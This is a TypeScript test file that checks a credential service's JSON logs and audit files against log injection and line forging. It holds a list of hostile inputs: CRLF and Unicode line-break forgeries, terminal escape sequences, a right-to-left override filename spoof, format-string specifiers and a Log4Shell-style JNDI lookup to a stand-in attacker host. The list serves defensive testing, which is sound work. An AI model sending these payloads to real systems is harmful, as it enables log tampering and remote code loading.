/**
 * Log injection (ASVS 16.4.1): whatever a client sends, each log line and audit event is one line
 * of JSON, and no content of a request can forge one.
 */
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inMemoryStore, openKeep } from '@agentkeep/core';
import { bootstrapTenant, createAdmin } from '@agentkeep/core/operator';
import { ManualClock, quickPasswords } from '@agentkeep/core/testing';
import { expect, test } from 'vitest';
import { jsonLogger } from '../../src/log/logger.js';
import { appOf, type Reply, send } from '@agentkeep/contract-cases/http-driver';
import { PASSWORD, tokens } from '@agentkeep/contract-cases/session-fixture';

const FORGED = '{"level":"error","message":"forged"}';

/** Texts that could end, hide, reorder or forge a line. */
const HOSTILE = [
  `a\r\n${FORGED}`,
  `a\n${FORGED}\n`,
  `"},${FORGED}`,
  `\\","message":"forged`,
  `a\u2028${FORGED}\u2029`,
  `a\u0085${FORGED}`,
  '\u001b[2K\u001b[1A\u001b]0;owned\u0007',
  '\u009b31m',
  '\u0000\u0001\u0008\u007f',
  '\u202etxt.exe',
  '%0d%0aforged',
  '${jndi:ldap://evil.example/a}',
  '%s%n%x',
  'x'.repeat(64_000),
];

/**
 * Returns the part of a text that a header can hold: no line ends, no NUL, one byte per character.
 */
const inHeader = (text: string): string =>
  text.replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, '?').slice(0, 60_000);

async function setUp(directory: string) {
  const lines: string[] = [];
  const log = jsonLogger({ level: 'debug', write: (text) => lines.push(text) });
  const clock = new ManualClock();
  const audit = { reads: true, logPath: directory };
  const store = inMemoryStore();
  const keep = await openKeep({ store, clock, passwords: quickPasswords, tokens, audit });
  const { secret } = await bootstrapTenant(keep, { tenantId: 'acme', subjectId: 'ops' });
  await createAdmin(keep, { username: 'chief', password: PASSWORD, tenantId: 'acme' });
  const app = appOf(keep, { log });
  const post = (path: string, document: unknown, headers: Record<string, string> = {}) =>
    send(app, 'POST', path, {
      headers: { 'Content-Type': 'application/json', ...headers },
      body: JSON.stringify(document),
    });
  return { app, keep, secret, lines, log, post };
}

type Attacked = Awaited<ReturnType<typeof setUp>>;

/** Puts a text into every part of a request that the service reads texts from. */
async function attack({ app, secret, post }: Attacked, text: string): Promise<void> {
  const proof = { Authorization: `Bearer ${secret}` };
  const header = inHeader(text);
  const path = `/api/v1/credentials/${encodeURIComponent(text.slice(0, 2_000))}`;
  await send(app, 'GET', path, { headers: { ...proof, 'User-Agent': header } });
  await send(app, 'GET', path, { headers: { ...proof, 'X-Request-Id': header } });
  await send(app, 'GET', path, { headers: { Authorization: `Bearer ${header}` } });
  await send(app, 'GET', path, { headers: { 'X-API-Key': header } });
  await send(app, 'GET', '/api/v1/identity', { headers: { ...proof, 'X-Forwarded-For': header } });
  await send(app, 'GET', `/api/v1/audit?action=${encodeURIComponent(text.slice(0, 2_000))}`, {
    headers: proof,
  });
  await post('/api/v1/auth/login', { username: text.slice(0, 200), password: text });
  await post('/api/v1/users', { username: text, password: text, email: text }, proof);
  const lock = `/api/v1/lockouts/${encodeURIComponent(text.slice(0, 200))}/lock`;
  await post(lock, { reason: text.slice(0, 200) }, proof);
  await post('/api/v1/auth/revoke-all', { user_id: text, reason: text }, proof);
}

/** Parses each line of a text as one JSON object. */
function objectsIn(text: string): Record<string, unknown>[] {
  expect(text.endsWith('\n')).toBe(true);
  // Splits at every character that any reader might treat as a line end.
  return text
    .slice(0, -1)
    .split(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/u)
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

/** Returns every text in an object, including the names of its members. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, member]) => [name, ...textsIn(member)]);
}

test('each line of the log and of the audit files is one event, and none is forged', async () => {
  const directory = await mkdtemp(join(tmpdir(), 'agentkeep-lines-'));
  const attacked = await setUp(directory);
  for (const text of HOSTILE) await attack(attacked, text);
  const proof = { Authorization: `Bearer ${attacked.secret}` };
  const reply: Reply = await send(attacked.app, 'GET', '/api/v1/audit?limit=1000', {
    headers: proof,
  });
  attacked.log.flush();
  await attacked.keep.close();

  const logged = objectsIn(attacked.lines.join(''));
  expect(logged).toHaveLength(HOSTILE.length * 10 + 1);
  for (const line of logged) {
    expect(line).toMatchObject({ level: 'info', message: 'request' });
    expect(JSON.stringify(line).length).toBeLessThan(10_000);
  }
  // No character that moves the cursor, reorders text or ends a line is left unescaped.
  expect(attacked.lines.join('')).not.toMatch(/[^\n\x20-\x7e\u00a0-\u{10ffff}]|\p{Cf}/u);

  const files = await readdir(directory);
  const texts = await Promise.all(files.map((name) => readFile(join(directory, name), 'utf8')));
  const events = texts.flatMap(objectsIn);
  const { events: shown } = reply.body as { events: object[] };
  expect(events.length).toBeGreaterThan(HOSTILE.length * 5);
  expect(shown.length).toBeGreaterThan(HOSTILE.length * 4);
  for (const event of [...events, ...shown] as Record<string, unknown>[]) {
    expect(event).toHaveProperty('event_id');
    expect(event).not.toHaveProperty('level');
    expect(textsIn(event).filter((text) => /[\p{Cc}\u2028\u2029]/u.test(text))).toEqual([]);
    expect(JSON.stringify(event).length).toBeLessThan(16_384);
    const agent = event['user_agent'] as string | null;
    expect(Buffer.byteLength(agent ?? '')).toBeLessThanOrEqual(256);
  }
  await rm(directory, { recursive: true });
});
